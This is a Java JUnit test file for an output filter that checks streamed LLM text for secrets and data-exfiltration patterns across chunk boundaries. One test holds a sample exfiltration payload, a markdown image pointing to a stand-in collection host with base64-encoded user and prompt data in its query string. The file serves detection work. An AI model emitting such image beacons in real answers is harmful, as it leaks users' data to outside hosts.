package com.lockllm.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

class StreamGuardTest {
  static final String ALPHABET = "ab-k12s 12-";
  static final String EMOJI = "\uD83D\uDE00";

  private static final OutputCheck SECRET = TestChecks.word("SECRET", "hunter2");

  @Test
  void aWordSplitIntoSingleCharactersIsStripped() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.STRIP);

    WholeText.Outcome outcome = Streams.run(guard, Streams.ones("my password is hunter2, ok"));

    assertThat(outcome.text()).isEqualTo("my password is [SECRET], ok");
    assertThat(outcome.findings()).containsExactly(new OutputFinding("SECRET", 15, 22, "[SECRET]"));
    assertThat(outcome.stop()).isFalse();
  }

  @Test
  void nothingIsReleasedBeforeTheHoldBackHasArrived() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.STRIP);
    assertThat(guard.holdBack()).isEqualTo(8);

    assertThat(guard.accept("abcdefg").text()).isEmpty();
    // position 0 is decided once the 8 characters from it are in: a match there would end by position 7
    assertThat(guard.accept("h").text()).isEqualTo("a");
    assertThat(guard.accept("ijklmnopq").text()).isEqualTo("bcdefghij");
    assertThat(guard.buffered()).isEqualTo(7);
    assertThat(guard.finish().text()).isEqualTo("klmnopq");
  }

  @Test
  void theStreamIsReleasedAsFastAsTheHoldBackAllows() {
    String text = randomText(new Random(7), 400);
    StreamGuard guard = new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> OutputAction.WARN);
    StringBuilder released = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      released.append(guard.accept(text.substring(i, i + 1)).text());
      assertThat(released.length()).isGreaterThanOrEqualTo(i + 1 - (guard.holdBack() - 1) - 1);
      assertThat(text).startsWith(released);
    }
  }

  @Test
  void blockStopsBeforeTheFirstCharacterOfTheMatch() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.BLOCK);

    WholeText.Outcome outcome = Streams.run(guard, Streams.ones("the password is hunter2 and more text after it"));

    assertThat(outcome.text()).isEqualTo("the password is ");
    assertThat(outcome.stop()).isTrue();
    assertThat(outcome.findings()).extracting(OutputFinding::start).containsExactly(16);
    assertThatThrownBy(() -> guard.accept("x")).isInstanceOf(IllegalStateException.class);
    assertThatThrownBy(guard::finish).isInstanceOf(IllegalStateException.class);
  }

  @Test
  void warnReleasesTheMatchUnchangedAndReportsIt() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.WARN);

    WholeText.Outcome outcome = Streams.run(guard, List.of("a hun", "ter", "2 b"));

    assertThat(outcome.text()).isEqualTo("a hunter2 b");
    assertThat(outcome.findings()).containsExactly(new OutputFinding("SECRET", 2, 9, "[SECRET]"));
    assertThat(outcome.stop()).isFalse();
  }

  @Test
  void actionsAreChosenPerFinding() {
    Map<String, OutputAction> byType = Map.of("PAIR", OutputAction.STRIP, "KEY", OutputAction.WARN, "NUMBER", OutputAction.BLOCK);
    StreamGuard guard = new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> byType.getOrDefault(f.type(), OutputAction.STRIP));

    WholeText.Outcome outcome = Streams.run(guard, Streams.ones("x abab sk-1 y 3-45 z"));

    assertThat(outcome.text()).isEqualTo("x [PAIR] sk-1 y ");
    assertThat(outcome.findings()).extracting(OutputFinding::type).containsExactly("PAIR", "KEY", "NUMBER");
    assertThat(outcome.stop()).isTrue();
  }

  @Test
  void finishChecksAMatchThatOnlyTheEndOfTheTextCompletes() {
    StreamGuard guard = new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> OutputAction.STRIP);

    // "3-45" followed by a digit would not match; held back until the stream says nothing follows
    assertThat(guard.accept("call 3-45").text()).isEqualTo("call ");
    StreamGuard.Release last = guard.finish();

    assertThat(last.text()).isEqualTo("[NUMBER]");
    assertThat(last.findings()).containsExactly(new OutputFinding("NUMBER", 5, 9, "[NUMBER]"));
    assertThatThrownBy(guard::finish).isInstanceOf(IllegalStateException.class);
  }

  @Test
  void finishReleasesAPartialMatchUnchanged() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.BLOCK);

    WholeText.Outcome outcome = Streams.run(guard, List.of("it is hun", "ter"));

    assertThat(outcome.text()).isEqualTo("it is hunter");
    assertThat(outcome.findings()).isEmpty();
    assertThat(outcome.stop()).isFalse();
  }

  @Test
  void emptyChunksReleaseNothingAndChangeNothing() {
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.STRIP);

    StreamGuard.Release first = guard.accept("");
    assertThat(first.text()).isEmpty();
    assertThat(first.findings()).isEmpty();
    assertThat(first.stop()).isFalse();
    WholeText.Outcome outcome = Streams.run(guard, List.of("", "say hun", "", "", "ter2", ""));

    assertThat(outcome.text()).isEqualTo("say [SECRET]");
    assertThat(new StreamGuard(List.of(SECRET), (f, m) -> OutputAction.STRIP).finish().text()).isEmpty();
  }

  @Test
  void theHoldBackIsTheLongestMatchPlusOneAndNoLess() {
    assertThat(new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> OutputAction.STRIP).holdBack()).isEqualTo(5);
    assertThat(new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> OutputAction.STRIP, 40).holdBack()).isEqualTo(40);
    assertThatThrownBy(() -> new StreamGuard(TestChecks.OVERLAPPING, (f, m) -> OutputAction.STRIP, 4))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("5");
    assertThatThrownBy(() -> new StreamGuard(List.of(TestChecks.regex("NONE", "x", 0)), (f, m) -> OutputAction.STRIP))
        .isInstanceOf(IllegalArgumentException.class);
    assertThat(new StreamGuard(TestChecks.ALL, (f, m) -> OutputAction.STRIP).maxBuffered()).isEqualTo(5 + 2);
    assertThatThrownBy(() -> new StreamGuard(List.of(TestChecks.contextual("BACK", "x", 1, -1)), (f, m) -> OutputAction.STRIP))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aSurrogatePairCutBetweenChunksIsReleasedWhole() {
    StreamGuard guard = new StreamGuard(List.of(TestChecks.word("X", "x")), (f, m) -> OutputAction.STRIP);
    // the hold-back of 2 would release up to and with the pair's first half
    assertThat(guard.accept("a" + EMOJI).text()).isEqualTo("a");
    assertThat(guard.accept("c").text()).isEqualTo(EMOJI);
    assertThat(guard.finish().text()).isEqualTo("c");

    StreamGuard unchecked = new StreamGuard(List.of(), (f, m) -> OutputAction.STRIP);
    assertThat(unchecked.accept("ab\uD83D").text()).isEqualTo("ab");
    assertThat(unchecked.accept("\uDE00c").text()).isEqualTo(EMOJI + "c");
  }

  @Test
  void memoryStaysWithinTheHoldBackAndTheLookbehind() {
    StreamGuard guard = new StreamGuard(TestChecks.ALL, (f, m) -> OutputAction.STRIP);
    Random random = new Random(3);
    for (int i = 0; i < 2_000; i++) {
      guard.accept(randomText(random, random.nextInt(50)));
      assertThat(guard.buffered()).isLessThanOrEqualTo(guard.maxBuffered());
      assertThat(guard.held()).isLessThanOrEqualTo(guard.holdBack());
    }
  }

  /** The property: however the text is cut, the stream releases what the whole text comes to. */
  @Test
  void everyChunkingReleasesWhatTheWholeTextComesTo() {
    for (int seed = 0; seed < 400; seed++) {
      Random random = new Random(seed);
      String text = randomText(random, random.nextInt(120));
      List<OutputCheck> checks = switch (seed % 3) {
        case 0 -> TestChecks.OVERLAPPING;
        case 1 -> TestChecks.CONTEXTUAL;
        default -> TestChecks.ALL;
      };
      OutputActions action = randomActions(random);
      int holdBack = 5 + (random.nextBoolean() ? 0 : random.nextInt(20));
      WholeText.Outcome expected = WholeText.expected(checks, action, text);
      List<OutputFinding> raw = new ArrayList<>();
      checks.forEach(check -> raw.addAll(check.find(text)));

      for (List<String> chunks : List.of(List.of(text), Streams.ones(text), Streams.random(text, random, 12),
          Streams.random(text, random, 3), Streams.aligned(text, raw))) {
        assertThat(Streams.run(new StreamGuard(checks, action, holdBack), chunks))
            .as("seed %d, chunks %s", seed, chunks).isEqualTo(expected);
      }
    }
  }

  /** The property on answers: secrets and exfiltration shapes, cut anywhere, one character at a time included. */
  @Test
  void answersComeOutAsInOnePieceHoweverTheyAreCut() {
    List<OutputCheck> checks = List.of(new SecretCheck(), new ExfiltrationCheck(List.of(AnswerTextGenerator.ALLOWED_HOST)));
    Random random = new Random(5);
    for (AnswerTextGenerator.Answer answer : new AnswerTextGenerator(23).answers(40)) {
      String text = answer.text();
      OutputActions action = randomActions(random);
      WholeText.Outcome expected = WholeText.expected(checks, action, text);
      List<OutputFinding> raw = new ArrayList<>();
      checks.forEach(check -> raw.addAll(check.find(text)));

      for (List<String> chunks : List.of(List.of(text), Streams.ones(text), Streams.random(text, random, 16),
          Streams.random(text, random, 3), Streams.aligned(text, raw))) {
        assertThat(Streams.run(new StreamGuard(checks, action), chunks)).as("%s", text).isEqualTo(expected);
      }
    }
  }

  /** The property on text dense in the shapes' first characters and pieces, where matches begin, end and fail at chunk edges. */
  @Test
  void denseTextComesOutAsInOnePieceHoweverItIsCut() {
    List<OutputCheck> checks = List.of(new SecretCheck(), new ExfiltrationCheck(List.of("x.io")));
    Random random = new Random(11);
    for (int i = 0; i < 80; i++) {
      String text = UndecidedTest.dense(random, new SecretSamples(random));
      OutputActions action = randomActions(random);
      WholeText.Outcome expected = WholeText.expected(checks, action, text);
      List<OutputFinding> raw = new ArrayList<>();
      checks.forEach(check -> raw.addAll(check.find(text)));

      for (List<String> chunks : List.of(Streams.ones(text), Streams.random(text, random, 7), Streams.aligned(text, raw))) {
        assertThat(Streams.run(new StreamGuard(checks, action), chunks)).as("%s", text).isEqualTo(expected);
      }
    }
  }

  @Test
  void proseIsReleasedAsItArrives() {
    List<OutputCheck> checks = List.of(new SecretCheck(), new ExfiltrationCheck());
    AnswerTextGenerator generator = new AnswerTextGenerator(31);
    Random random = new Random(31);
    for (int i = 0; i < 20; i++) {
      String text = generator.prose(3 + random.nextInt(6));
      for (List<String> chunks : List.of(Streams.ones(text), Streams.random(text, random, 8))) {
        StreamGuard guard = new StreamGuard(checks, (f, m) -> OutputAction.BLOCK);
        StringBuilder out = new StringBuilder();
        for (String chunk : chunks) {
          out.append(guard.accept(chunk).text());
          // at most the end of a word that may begin a key or a connection string ("mys", "postg")
          assertThat(guard.held()).as("held after %s", out).isLessThanOrEqualTo(16);
          assertThat(guard.buffered()).isLessThanOrEqualTo(16 + 1);
        }
        assertThat(out.append(guard.finish().text())).hasToString(text);
      }
    }
  }

  @Test
  void aKeyOrAnImageSplitAnywhereIsCaughtWhole() {
    List<OutputCheck> checks = List.of(new SecretCheck(), new ExfiltrationCheck());
    SecretSamples samples = new SecretSamples(new Random(9));
    String pem = "Here is the key:\n```\n" + samples.of("PRIVATE_KEY") + "\n```\nKeep it safe.";
    String image = "Done. ![status](https://collect.example.io/p.gif?d=dXNlcj1hbGljZTtwcm9tcHQ9c2VjcmV0) Anything else?";
    for (String text : List.of(pem, image)) {
      WholeText.Outcome expected = WholeText.expected(checks, (f, m) -> OutputAction.STRIP, text);
      assertThat(expected.findings()).hasSize(1);
      assertThat(expected.text()).doesNotContain("BEGIN", "collect");
      assertThat(Streams.run(new StreamGuard(checks, (f, m) -> OutputAction.STRIP), Streams.ones(text))).isEqualTo(expected);
      for (int cut = 1; cut < text.length(); cut++) {
        assertThat(Streams.run(new StreamGuard(checks, (f, m) -> OutputAction.STRIP), List.of(text.substring(0, cut), text.substring(cut))))
            .as("cut at %d", cut).isEqualTo(expected);
      }
    }
  }

  @Test
  void aLookbehindReadsTheTextAlreadyReleased() {
    StreamGuard guard = new StreamGuard(List.of(TestChecks.eager("LONE", "(?<![a-z])k[12]", 2, 1)), (f, m) -> OutputAction.STRIP);

    assertThat(guard.accept("a").text()).isEqualTo("a");
    // "k" after a letter can never match: released at once, and "1" after it too
    assertThat(guard.accept("k").text()).isEqualTo("k");
    assertThat(guard.accept("1 ").text()).isEqualTo("1 ");
    assertThat(guard.accept("k").text()).isEmpty();
    StreamGuard.Release release = guard.accept("2 and more");

    assertThat(release.text()).isEqualTo("[LONE] and more");
    assertThat(release.findings()).containsExactly(new OutputFinding("LONE", 4, 6, "[LONE]"));
  }

  @Test
  void actionsSeeTheMatchedText() {
    List<CharSequence> seen = new ArrayList<>();
    StreamGuard guard = new StreamGuard(List.of(SECRET), (f, m) -> {
      seen.add(m);
      return OutputAction.WARN;
    });

    Streams.run(guard, List.of("a hun", "ter2 b"));

    assertThat(seen).extracting(CharSequence::toString).containsExactly("hunter2");
  }

  /** An action per type, or per matched text (as an allowlist of text hashes decides). */
  private static OutputActions randomActions(Random random) {
    OutputAction[] actions = OutputAction.values();
    int salt = random.nextInt();
    return random.nextBoolean()
        ? (f, m) -> actions[Math.floorMod(m.toString().hashCode() ^ salt, 3)]
        : (f, m) -> actions[Math.floorMod(f.type().hashCode() ^ salt, 3)];
  }

  /** Text over {@link #ALPHABET} and an emoji, dense enough in matches that they overlap and touch chunk edges. */
  static String randomText(Random random, int length) {
    StringBuilder text = new StringBuilder();
    while (text.length() < length) {
      int pick = random.nextInt(ALPHABET.length() + 1);
      text.append(pick == ALPHABET.length() ? EMOJI : String.valueOf(ALPHABET.charAt(pick)));
    }
    return text.toString();
  }
}
